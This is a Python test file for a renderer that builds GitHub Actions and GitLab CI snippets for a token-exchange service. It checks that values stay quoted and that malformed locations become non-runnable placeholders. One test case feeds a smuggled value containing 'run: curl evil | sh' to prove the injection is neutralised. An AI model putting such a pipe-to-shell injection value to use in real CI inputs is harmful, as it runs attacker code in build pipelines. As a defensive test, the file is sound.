"""The admin's CI jobs with jwtex's client (exchange/console/ci_client_setup.py): complete files that use the
Action's and the component's real inputs, every value quoted, placeholders that cannot run."""

from __future__ import annotations

import pytest
import yaml
from hypothesis import given, strategies as st

from exchange.console.ci_client_setup import ACTION_PLACEHOLDER, COMPONENT_PLACEHOLDER, ci_client_snippets_render
from tests.ci.runners import ACTION, component_documents, component_interpolated
from tests.exchange.admin.test_pages import assert_valid_github_workflow

URL = "https://jwtex.example.com"
ROLES = ("arn:aws:iam::111122223333:role/deploy", "arn:aws:iam::444455556666:role/deploy")


def _render(**fields):
    values = {
        "public_url": URL,
        "tenant_slug": "acme",
        "role_arns": ROLES[:1],
        "region": "eu-west-1",
        "github_issuer_id": "github",
        "github_audiences": [f"{URL}/t/acme"],
        "gitlab_issuer_id": "gitlab",
        "gitlab_audiences": [f"{URL}/t/acme"],
        "action": "octo-org/jwtex@0123abcd",
        "component": "gitlab.example.com/platform/jwtex/jwtex-token@1.2.0",
    }
    return ci_client_snippets_render(**{**values, **fields})


def _step(snippet: str) -> dict:
    workflow = yaml.safe_load(snippet)
    assert_valid_github_workflow(workflow)
    return workflow["jobs"]["deploy"]["steps"][0]


def test_the_github_job_uses_the_action_with_its_own_inputs():
    snippets = _render()
    step = _step(snippets.github_action)
    assert step["uses"] == "octo-org/jwtex@0123abcd" and snippets.warnings == ()
    inputs = yaml.safe_load(ACTION.read_text())["inputs"]
    assert set(step["with"]) <= set(inputs)
    assert {name for name, spec in inputs.items() if spec.get("required")} <= set(step["with"])
    assert step["with"] == {"url": URL, "tenant": "acme", "issuer-id": "github", "role-arn": ROLES[0]}
    assert yaml.safe_load(snippets.github_action)["jobs"]["deploy"]["permissions"]["id-token"] == "write"


def test_the_gitlab_job_includes_the_component_with_inputs_it_accepts():
    document = yaml.safe_load(_render().gitlab_component)
    (include,) = document["include"]
    assert include["component"] == "gitlab.example.com/platform/jwtex/jwtex-token@1.2.0"
    assert include["inputs"] == {"url": URL, "tenant": "acme", "issuer-id": "gitlab", "role-arn": ROLES[0]}
    jobs = component_interpolated(include["inputs"])  # what GitLab checks when the pipeline is made
    assert document["deploy"]["extends"] in jobs and document["deploy"]["script"]
    assert set(include["inputs"]) <= set(component_documents()[0]["spec"]["inputs"])


@pytest.mark.parametrize(
    "action, component",
    [
        ("", ""),
        ("octo-org/jwtex", "gitlab.example.com/jwtex@1"),
        ("x\nrun: curl evil | sh", "h/p/jwtex-token@1\n  evil: 1"),
    ],
)
def test_unset_or_malformed_locations_show_placeholders_that_cannot_run(action, component):
    snippets = _render(action=action, component=component)
    assert _step(snippets.github_action)["uses"] == ACTION_PLACEHOLDER
    assert yaml.safe_load(snippets.gitlab_component)["include"][0]["component"] == COMPONENT_PLACEHOLDER
    assert len(snippets.warnings) == 2 and "JWTEX_CI_ACTION" in snippets.warnings[0]
    assert "curl" not in snippets.github_action + snippets.gitlab_component.replace("pip install", "")


def test_notes_for_a_missing_issuer_a_refused_audience_and_other_accounts():
    snippets = _render(
        github_issuer_id=None, github_audiences=None, gitlab_audiences=["https://gitlab.com"], role_arns=ROLES
    )
    assert "No GitHub Actions issuer in this tenant yet" in snippets.github_action
    assert "issuer-id" not in _step(snippets.github_action)["with"]
    assert "does not accept the audience the job asks for yet" in snippets.gitlab_component
    assert f'#   "{ROLES[1]}"' in snippets.github_action and f'#   "{ROLES[1]}"' in snippets.gitlab_component


_text = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40)


@given(url=_text, slug=_text, role=_text, region=_text)
def test_any_value_stays_a_value(url, slug, role, region):
    """Whatever the values hold (quotes, newlines, ``#``, ``: ``, YAML tags), each document keeps
    its shape and holds them exactly: nothing is interpolated into structure or a script."""
    snippets = _render(public_url=url, tenant_slug=slug, role_arns=[role, role], region=region)
    github = yaml.safe_load(snippets.github_action)
    job = github["jobs"]["deploy"]
    assert job["env"] == {"AWS_REGION": region} and len(job["steps"]) == 2
    assert job["steps"][0]["with"] == {"url": url, "tenant": slug, "issuer-id": "github", "role-arn": role}
    gitlab = yaml.safe_load(snippets.gitlab_component)
    assert set(gitlab) == {"include", "deploy"}
    assert gitlab["include"][0]["inputs"] == {"url": url, "tenant": slug, "issuer-id": "gitlab", "role-arn": role}
    assert gitlab["deploy"]["variables"] == {"AWS_DEFAULT_REGION": region}
    assert gitlab["deploy"]["script"] == ["pip install --quiet awscli", "aws sts get-caller-identity"]
